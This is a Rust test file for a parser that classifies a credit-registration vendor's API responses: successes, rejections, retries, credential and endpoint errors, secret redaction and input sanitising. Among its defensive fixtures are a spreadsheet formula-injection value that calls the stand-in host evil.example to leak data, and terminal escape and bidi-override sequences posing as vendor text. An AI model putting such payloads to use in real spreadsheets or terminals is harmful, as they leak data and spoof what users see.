//! `classify`, case by case, with the vendor's own bodies verbatim where it published them.

use std::time::{Duration, SystemTime};

use reqwest::header::{HeaderMap, HeaderValue, RETRY_AFTER};

use super::*;
use crate::api::MESSAGE_LIMIT;

fn no_headers() -> HeaderMap {
    HeaderMap::new()
}

fn run(status: u16, body: &str) -> Outcome {
    classify(status, &no_headers(), body.as_bytes())
}

/// The success example of the vendor's registration page, as published.
const VENDOR_SUCCESS: &str = r#"{
"status": "SUCCESS",
"message": "success",
"error_code": "SPC-200",
"merchant_trans_id": "SPCBL2308181502178507b3S8ckeFd",
"access_token": "331ce37aa7c8898678fadd25928d14af52ea9fb4",
"result": {
"cibil_id": "9362678",
"cibil_status": "Pending",
"is_returning_customer": 0,
"cibil_score_fetch_date": null
}
}"#;

/// The second error envelope of the vendor's page, as published.
const VENDOR_207: &str = r#"{
    "code": "207",
    "description": "Amount is Requaired",
    "merchantTrxnRefId": null,
    "token": null,
    "status": "False"
}"#;

#[test]
fn the_documented_success_is_a_registration() {
    let Outcome::Registered(r) = run(200, VENDOR_SUCCESS) else { panic!("not registered") };
    assert_eq!(r.cibil_id, "9362678");
    assert_eq!(r.cibil_status.as_deref(), Some("Pending"));
    assert!(!r.is_returning_customer);
    assert_eq!(r.merchant_trans_id.as_deref(), Some("SPCBL2308181502178507b3S8ckeFd"));
    assert_eq!(r.access_token.as_deref(), Some("331ce37aa7c8898678fadd25928d14af52ea9fb4"));
    assert!(!format!("{r:?}").contains("331ce37a"), "the token must not reach a Debug print");
}

#[test]
fn cibil_id_as_a_number_and_a_returning_customer() {
    let body = r#"{"status":"SUCCESS","result":{"cibil_id":9362678,"cibil_status":"Active","is_returning_customer":1}}"#;
    let Outcome::Registered(r) = run(200, body) else { panic!("not registered") };
    assert_eq!(r.cibil_id, "9362678");
    assert!(r.is_returning_customer);
    assert_eq!(r.access_token, None);
    for flag in [r#""1""#, "true", r#""true""#] {
        let body = format!(r#"{{"result":{{"cibil_id":"7","is_returning_customer":{flag}}}}}"#);
        let Outcome::Registered(r) = run(200, &body) else { panic!("not registered") };
        assert!(r.is_returning_customer, "{flag}");
    }
}

#[test]
fn a_cibil_id_wins_whatever_the_status_says() {
    let body = r#"{"status":"False","result":{"cibil_id":"11","cibil_status":"Failed"}}"#;
    assert!(matches!(run(200, body), Outcome::Registered(_)));
    let body = r#"{"Status":false,"Result":{"CIBIL_ID":"12"}}"#;
    assert!(matches!(run(201, body), Outcome::Registered(r) if r.cibil_id == "12"));
}

#[test]
fn the_documented_401_aborts_on_credentials() {
    let body =
        r#"{"responsecode": 401, "status": false, "message": "Invalid RegistrationID or CompanyCode"}"#;
    assert_eq!(
        run(401, body),
        Outcome::Abort(Abort {
            kind: AbortKind::Credentials,
            http_status: Some(401),
            message: "Invalid RegistrationID or CompanyCode".into()
        })
    );
    let Outcome::Abort(a) = run(403, "<html>Forbidden</html>") else { panic!() };
    assert_eq!(a.kind, AbortKind::Credentials);
    assert!(a.message.contains("whitelisted"), "{}", a.message);
}

#[test]
fn the_documented_207_is_a_rejection_with_its_code_and_description() {
    let Outcome::Rejected(r) = run(200, VENDOR_207) else { panic!("not rejected") };
    assert_eq!(r.http_status, 200);
    assert_eq!(r.code.as_deref(), Some("207"));
    assert_eq!(r.message, "Amount is Requaired");
    assert!(r.raw.contains("\"code\":\"207\""));
}

#[test]
fn every_spelling_of_the_error_code() {
    for (body, code, message) in [
        (r#"{"error_code":"SPC-400","message":"Invalid PAN"}"#, "SPC-400", "Invalid PAN"),
        (r#"{"code":212,"description":"Mobile already used"}"#, "212", "Mobile already used"),
        (r#"{"responsecode":422,"status":false,"message":"bad dob"}"#, "422", "bad dob"),
        (r#"{"response_code":"E9","error":"unknown consumer"}"#, "E9", "unknown consumer"),
        (r#"{"code":"","message":" ","description":"second choice"}"#, "", "second choice"),
    ] {
        let Outcome::Rejected(r) = run(200, body) else { panic!("{body}") };
        assert_eq!(r.code.as_deref().unwrap_or(""), code, "{body}");
        assert_eq!(r.message, message, "{body}");
    }
}

#[test]
fn success_words_without_a_cibil_id_are_a_rejection_that_says_so() {
    for body in [
        r#"{"status":"SUCCESS","message":"success","error_code":"SPC-200"}"#,
        r#"{"status":"SUCCESS","message":"success","result":{"cibil_id":""}}"#,
        r#"{"status":"SUCCESS","message":"success","result":{"cibil_id":null}}"#,
        r#"{"status":"SUCCESS","message":"success","result":null}"#,
    ] {
        let Outcome::Rejected(r) = run(200, body) else { panic!("{body}") };
        assert!(r.message.contains("gave no cibil_id"), "{}", r.message);
    }
    let Outcome::Rejected(r) = run(200, "{}") else { panic!() };
    assert!(r.message.contains("no registration and no message"));
    assert_eq!(r.code, None);
}

#[test]
fn a_proxy_page_or_an_empty_body_is_transient() {
    let html = "<html><head><title>502 Bad Gateway</title></head><body>nginx</body></html>";
    let Outcome::Transient(t) = run(502, html) else { panic!() };
    assert_eq!((t.http_status, t.throttled), (Some(502), false));
    let Outcome::Transient(t) = run(200, html) else { panic!() };
    assert!(t.reason.contains("not JSON"), "{}", t.reason);
    let Outcome::Transient(t) = run(200, "") else { panic!() };
    assert!(t.reason.contains("empty body"), "{}", t.reason);
    assert!(matches!(run(200, "[1,2]"), Outcome::Transient(_)));
    assert!(matches!(run(200, "\"ok\""), Outcome::Transient(_)));
    assert!(matches!(run(200, "{\"status\":"), Outcome::Transient(_)));
    assert!(matches!(run(200, "\u{feff}garbage"), Outcome::Transient(_)));
}

#[test]
fn transient_statuses_even_with_a_json_body() {
    for status in [408, 425, 429, 500, 502, 503, 504, 507] {
        assert!(matches!(run(status, VENDOR_207), Outcome::Transient(_)), "{status}");
    }
}

#[test]
fn retry_after_in_seconds_and_as_an_http_date() {
    let mut headers = HeaderMap::new();
    headers.insert(RETRY_AFTER, HeaderValue::from_static("3"));
    let Outcome::Transient(t) = classify(429, &headers, b"") else { panic!() };
    assert_eq!((t.retry_after, t.throttled), (Some(Duration::from_secs(3)), true));

    let now = SystemTime::UNIX_EPOCH + Duration::from_secs(1_445_412_480); // 21 Oct 2015 07:28:00 GMT
    headers.insert(RETRY_AFTER, HeaderValue::from_static("Wed, 21 Oct 2015 07:28:30 GMT"));
    let Outcome::Transient(t) = classify_at(429, &headers, b"", now) else { panic!() };
    assert_eq!(t.retry_after, Some(Duration::from_secs(30)));
    // A date in the past means "now".
    let later = now + Duration::from_secs(60);
    let Outcome::Transient(t) = classify_at(503, &headers, b"", later) else { panic!() };
    assert_eq!(t.retry_after, Some(Duration::ZERO));
    headers.insert(RETRY_AFTER, HeaderValue::from_static("soon"));
    let Outcome::Transient(t) = classify(429, &headers, b"") else { panic!() };
    assert_eq!(t.retry_after, None);
}

#[test]
fn wrong_endpoint_or_method_aborts_instead_of_rejecting_every_row() {
    for (status, hint) in [(404, "--endpoint"), (405, "--method"), (501, "--method"), (302, "redirect")] {
        let Outcome::Abort(a) = run(status, r#"{"Message":"No HTTP resource was found"}"#) else {
            panic!("{status}")
        };
        assert_eq!(a.kind, AbortKind::Endpoint);
        assert!(a.message.contains(hint), "{status}: {}", a.message);
    }
}

#[test]
fn a_client_error_with_json_is_a_rejection() {
    let Outcome::Rejected(r) = run(400, r#"{"message":"Invalid date_of_birth"}"#) else { panic!() };
    assert_eq!((r.http_status, r.message.as_str()), (400, "Invalid date_of_birth"));
}

#[test]
fn kept_bodies_lose_their_secrets_and_are_capped() {
    let body = format!(
        r#"{{"message":"dup","access_token":"331ce37a","token":"abc","nested":{{"AccessToken":"x"}},"RegistrationID":"AOP-1","pad":"{}"}}"#,
        "é".repeat(5000)
    );
    let Outcome::Rejected(r) = run(200, &body) else { panic!() };
    assert!(
        !r.raw.contains("331ce37a") && !r.raw.contains("\"abc\"") && !r.raw.contains("AOP-1"),
        "{}",
        &r.raw[..200]
    );
    assert!(r.raw.len() <= RAW_BODY_LIMIT);
}

#[test]
fn the_vendors_words_lose_their_control_characters_and_are_bounded() {
    let long = "x".repeat(100_000);
    let body = format!(
        r#"{{"status":"False","code":"E\u001b[31m7","description":"Invalid \u001b]0;owned\u0007PAN\r\n{long}"}}"#
    );
    let Outcome::Rejected(r) = run(200, &body) else { panic!("not rejected") };
    assert_eq!(r.code.as_deref(), Some("E[31m7"));
    assert!(r.message.starts_with("Invalid ]0;ownedPAN xxx"), "{}", &r.message[..40]);
    assert!(r.message.len() <= MESSAGE_LIMIT && r.message.ends_with('…'), "{}", r.message.len());
    assert!(r.by_vendor);
    // The kept body escapes them, as JSON does.
    assert!(!r.raw.chars().any(char::is_control), "{}", &r.raw[..80]);
    let body = "{\"message\":\"bad\u{7f}\u{9b}31m \u{202e}NAP\"}";
    let Outcome::Rejected(r) = run(200, body) else { panic!("not rejected") };
    assert_eq!(r.raw, r#"{"message":"bad\u007f\u009b31m \u202eNAP"}"#);
    assert_eq!(serde_json::from_str::<Value>(&r.raw).unwrap()["message"], "bad\u{7f}\u{9b}31m \u{202e}NAP");

    let success = r#"{"status":"SUCCESS","merchant_trans_id":"M\u0007-1","access_token":"tok\u001b[2J","result":{"cibil_id":"9362678","cibil_status":"Pending\u001b[2J\u202e"}}"#;
    let Outcome::Registered(r) = run(200, success) else { panic!("not registered") };
    assert_eq!(r.cibil_status.as_deref(), Some("Pending[2J"));
    assert_eq!(r.merchant_trans_id.as_deref(), Some("M-1"));
    assert_eq!(r.access_token, None, "a token with control characters is not a token");

    let body = r#"{"responsecode":401,"message":"Invalid\u001b[8m credentials"}"#;
    let Outcome::Abort(a) = run(401, body) else { panic!("not an abort") };
    assert_eq!(a.message, "Invalid[8m credentials");
}

#[test]
fn a_cibil_id_that_is_not_digits_is_no_registration() {
    for (cibil_id, what) in [
        (r#""=HYPERLINK(\"http://evil.example/?leak\",\"click\")""#, "not all digits"),
        (r#""93626 78""#, "not all digits"),
        (r#"9362678.5"#, "not all digits"),
        (r#""123456789012345678901234567890""#, "30 digits, more than 20"),
    ] {
        let body =
            format!(r#"{{"status":"SUCCESS","result":{{"cibil_id":{cibil_id},"cibil_status":"Pending"}}}}"#);
        let Outcome::Rejected(r) = run(200, &body) else { panic!("{cibil_id}: not rejected") };
        assert_eq!(r.code.as_deref(), Some(CIBIL_ID_SHAPE), "{cibil_id}");
        assert!(!r.by_vendor, "{cibil_id}: the vendor refused nothing");
        assert!(r.message.contains("cibil_id is not a number") && r.message.contains(what), "{}", r.message);
        assert!(r.message.contains("AOPay may have registered this customer"), "{}", r.message);
        assert!(!r.message.contains("HYPERLINK") && !r.message.contains("9362678"), "{}", r.message);
        // For whoever looks into it, the answer as it came.
        assert!(r.raw.contains("cibil_id"), "{}", r.raw);
    }
    // The shapes the vendor documents still register: a string or a number of digits.
    for cibil_id in [r#""9362678""#, "9362678", r#""1234567890123""#] {
        let body = format!(r#"{{"result":{{"cibil_id":{cibil_id}}}}}"#);
        assert!(matches!(run(200, &body), Outcome::Registered(_)), "{cibil_id}");
    }
}

#[test]
fn a_refusal_of_the_order_id_is_told_from_a_refusal_of_the_customer() {
    for used in [
        r#"{"code":"ORD-409","description":"Duplicate order id","status":"False"}"#,
        r#"{"status":"False","message":"order_id already exists"}"#,
        r#"{"responsecode":400,"status":false,"message":"Order Id 1234 is already used"}"#,
        r#"{"error_code":"DUPLICATE_ORDER_ID","message":"Request rejected"}"#,
    ] {
        let Outcome::Rejected(r) = run(200, used) else { panic!("not rejected: {used}") };
        assert!(r.order_id_used && r.by_vendor, "{used}");
    }
    for customer in [
        r#"{"code":"207","description":"Invalid PAN","status":"False"}"#,
        r#"{"status":"False","message":"Customer already registered with another mobile"}"#,
        r#"{"status":"False","message":"Order amount missing"}"#,
    ] {
        let Outcome::Rejected(r) = run(200, customer) else { panic!("not rejected: {customer}") };
        assert!(!r.order_id_used, "{customer}");
    }
}
